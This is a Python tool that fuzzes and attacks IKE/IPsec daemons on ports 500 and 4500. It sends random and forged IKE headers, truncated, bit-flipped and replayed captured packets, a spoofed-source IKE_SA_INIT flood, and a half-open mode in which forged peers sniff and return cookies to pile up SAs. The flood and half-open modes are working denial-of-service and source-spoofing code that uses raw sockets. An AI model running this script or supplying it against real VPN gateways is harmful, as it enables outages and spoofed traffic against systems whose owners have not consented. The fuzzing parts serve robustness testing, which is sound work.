#!/usr/bin/env python3
"""Sends bad datagrams to an IKE daemon: a bounded, repeatable stream of them.

    datagrams.py garbage   TARGET [--count N] [--seed N]    random octets and forged headers to ports 500 and 4500
    datagrams.py truncated TARGET CAPTURE                   every prefix of each captured datagram to TARGET
    datagrams.py altered   TARGET CAPTURE [--seed N]        captured datagrams with one octet changed, at each place
    datagrams.py replayed  TARGET CAPTURE                   the captured packets to TARGET as they were, all of them
    datagrams.py flood     TARGET CAPTURE [--count N] [--rate N] [--from NETWORK]
                                                            the first captured packet as often and as fast as that, each time
                                                            with another SPI and the next source address of the network
    datagrams.py half-open TARGET CAPTURE [--count N] [--rate N] [--from NETWORK] [--seed N]
                                                            the first captured packet once from each of so many addresses of the
                                                            network, which bring every cookie back, but solve no puzzle and never
                                                            go on to IKE_AUTH

CAPTURE is a classic pcap file of an Ethernet device. Truncated, altered and replayed packets keep the addresses and
ports they had, so a daemon takes them for its peer's. IPv4 only; needs root. Prints how many packets were sent; half-open
prints how many strangers were let in.
"""

import argparse
import ipaddress
import itertools
import random
import select
import socket
import struct
import sys
import time

ETHERNET_HEADER = 14
IKE_HEADER = 28
PORTS = (500, 4500)
ETHERNET_IPV4 = 0x0800
# RFC 7296: payload types, and the notify that carries a cookie.
SECURITY_ASSOCIATION = 33
NOTIFY = 41
COOKIE = 16390
# How often a stranger brings back a cookie, which may be no more than a place in a lottery.
MOST_COOKIES = 8
# Seconds without an answer after which none is waited for.
SILENCE = 0.5


def captured(path, target):
    """The IPv4 packets of a capture that were sent to the target, without their Ethernet headers."""
    with open(path, "rb") as file:
        data = file.read()
    order = "<" if data[:4] in (b"\xd4\xc3\xb2\xa1", b"\x4d\x3c\xb2\xa1") else ">"
    offset = 24
    while offset + 16 <= len(data):
        length = struct.unpack_from(order + "I", data, offset + 8)[0]
        frame = data[offset + 16 : offset + 16 + length]
        offset += 16 + length
        packet = frame[ETHERNET_HEADER:]
        if frame[12:14] == b"\x08\x00" and packet[16:20] == socket.inet_aton(target):
            yield packet


def header_length(packet):
    """Octets before what the daemon reads: the IPv4 header, and the UDP header where there is one."""
    ip = (packet[0] & 0x0F) * 4
    return ip + (8 if packet[9] == socket.IPPROTO_UDP else 0)


def rebuilt(packet, payload):
    """The packet with another payload; lengths are made right and the UDP checksum is left out."""
    ip = (packet[0] & 0x0F) * 4
    head = bytearray(packet[: header_length(packet)])
    struct.pack_into("!H", head, 2, len(head) + len(payload))
    if packet[9] == socket.IPPROTO_UDP:
        struct.pack_into("!HH", head, ip + 4, 8 + len(payload), 0)
    return bytes(head) + payload


def distinct(packets, limit):
    """The first packet of each length and port: a capture holds thousands that are alike."""
    seen = set()
    for packet in packets:
        kind = (packet[9], packet[header_length(packet) - 6 : header_length(packet) - 4], len(packet))
        if kind not in seen and len(seen) < limit:
            seen.add(kind)
            yield packet


def truncated(packets):
    for packet in distinct(packets, 12):
        payload = packet[header_length(packet) :]
        for length in range(len(payload)):
            yield rebuilt(packet, payload[:length])


def altered(packets, seed):
    source = random.Random(seed)
    for packet in distinct(packets, 12):
        payload = packet[header_length(packet) :]
        for position in range(len(payload)):
            other = bytearray(payload)
            other[position] ^= source.randrange(1, 256)
            yield rebuilt(packet, bytes(other))


def forged_header(source):
    """A header of IKE that looks right, with random payloads, lengths and message IDs behind it."""
    exchange = source.choice((34, 35, 36, 37, 43, 0, 255))
    flags = source.choice((0x08, 0x20, 0x28, 0x00, 0xFF))
    body = source.randbytes(source.choice((0, 1, 3, 4, 40, 300, 1200)))
    length = IKE_HEADER + len(body) + source.choice((0, 0, 0, 1, -1, 1 << 20))
    return (
        source.randbytes(8)
        + source.choice((bytes(8), source.randbytes(8)))
        + struct.pack("!BBBBII", source.randrange(256), source.choice((0x20, 0x21, 0x30, 0x10)), exchange, flags,
                      source.choice((0, 1, 2, 0xFFFFFFFF)), max(0, length))
        + body
    )


def garbage(count, seed):
    source = random.Random(seed)
    lengths = (0, 1, 3, 4, 5, 7, 8, 16, 27, 28, 29, 32, 100, 576, 1400, 9000, 65507)
    for number in range(count):
        payload = source.randbytes(source.choice(lengths)) if number % 2 else forged_header(source)
        port = PORTS[source.randrange(2)]
        if port == 4500 and source.randrange(2):
            payload = bytes(4) + payload[: 65507 - 4]
        yield port, payload


def flood(packet, count, network, seed):
    """An IKE_SA_INIT request of many strangers."""
    source = random.Random(seed)
    head = header_length(packet)
    template = bytearray(rebuilt(packet, packet[head:]))
    addresses = itertools.cycle(range(int(network.network_address), int(network.broadcast_address) + 1))
    for _ in range(count):
        struct.pack_into("!I", template, 12, next(addresses))
        template[head : head + 8] = source.randbytes(8)
        yield bytes(template)


def cookie_of(message):
    """The cookie that an answer to IKE_SA_INIT asks for, if it does."""
    if len(message) < IKE_HEADER + 8 or message[16] != NOTIFY:
        return None
    length, kind = struct.unpack_from("!H2xH", message, IKE_HEADER + 2)
    return message[IKE_HEADER + 8 : IKE_HEADER + length] if kind == COOKIE else None


def with_cookie(request, cookie):
    """The request with N(COOKIE) as its first payload (RFC 7296 section 2.6)."""
    notify = struct.pack("!BBHBBH", request[16], 0, 8 + len(cookie), 0, 0, COOKIE) + cookie
    message = bytearray(request[:IKE_HEADER] + notify + request[IKE_HEADER:])
    message[16] = NOTIFY
    struct.pack_into("!I", message, 24, len(message))
    return bytes(message)


def half_open(target, packet, count, rate, network, seed):
    """Strangers who do what IKE_SA_INIT asks for and then say no more: how many got an SA."""
    source = random.Random(seed)
    request = packet[header_length(packet) :]
    addresses = itertools.cycle(range(int(network.network_address), int(network.broadcast_address) + 1))
    strangers = {}  # by SPI: the address, and how many cookies it has brought back
    let_in = 0
    # Nobody has the addresses, so the answers are read off the devices.
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out, socket.socket(
        socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETHERNET_IPV4)
    ) as heard:
        heard.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)

        def send(spi, address, message):
            datagram = bytearray(rebuilt(packet, spi + message[8:]))
            struct.pack_into("!I", datagram, 12, address)
            out.sendto(datagram, (target, 0))

        begun = 0
        began = last = time.monotonic()
        while begun < count or time.monotonic() < last + SILENCE:
            while begun < min(count, (time.monotonic() - began) * rate):
                spi, address = source.randbytes(8), next(addresses)
                strangers[spi] = (address, 0)
                send(spi, address, request)
                begun += 1
                last = time.monotonic()
            if not select.select([heard], [], [], 0.005)[0]:
                continue
            answer = heard.recv(65535)
            message = answer[header_length(answer) :]
            spi = message[:8]
            if answer[12:16] != socket.inet_aton(target) or spi not in strangers or len(message) < IKE_HEADER:
                continue
            last = time.monotonic()
            address, brought = strangers[spi]
            cookie = cookie_of(message)
            if cookie and brought < MOST_COOKIES:
                strangers[spi] = (address, brought + 1)
                send(spi, address, with_cookie(request, cookie))
            elif message[16] == SECURITY_ASSOCIATION:
                del strangers[spi]
                let_in += 1
    return let_in


def paced(packets, rate):
    """So many packets a second, in portions of a hundredth of a second."""
    portion = max(1, rate // 100)
    began = time.monotonic()
    for number, packet in enumerate(packets):
        if number % portion == 0:
            time.sleep(max(0, began + number / rate - time.monotonic()))
        yield packet


def send_plain(target, datagrams):
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as out:
        for port, payload in datagrams:
            try:
                out.sendto(payload, (target, port))
            except ConnectionRefusedError:
                out.sendto(payload, (target, port))
            sent += 1
    return sent


def send_raw(target, packets):
    sent = 0
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as out:
        for packet in packets:
            out.sendto(packet, (target, 0))
            sent += 1
    return sent


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("kind", choices=("garbage", "truncated", "altered", "replayed", "flood", "half-open"))
    parser.add_argument("target")
    parser.add_argument("capture", nargs="?")
    parser.add_argument("--count", type=int, default=20000)
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--rate", type=int, default=10000)
    parser.add_argument("--from", dest="network", type=ipaddress.IPv4Network, default="10.128.0.0/16")
    options = parser.parse_args()
    if options.kind != "garbage" and not options.capture:
        parser.error(f"{options.kind} needs a capture")
    packets = list(captured(options.capture, options.target)) if options.capture else []
    if options.kind == "garbage":
        sent = send_plain(options.target, garbage(options.count, options.seed))
    elif options.kind == "half-open":
        print(half_open(options.target, packets[0], options.count, options.rate, options.network, options.seed))
        return 0
    else:
        change = {
            "truncated": truncated,
            "altered": lambda found: altered(found, options.seed),
            "replayed": lambda found: found,
            "flood": lambda found: paced(flood(found[0], options.count, options.network, options.seed), options.rate),
        }[options.kind]
        sent = send_raw(options.target, change(packets))
    print(sent)
    return 0 if sent else 1


if __name__ == "__main__":
    sys.exit(main())
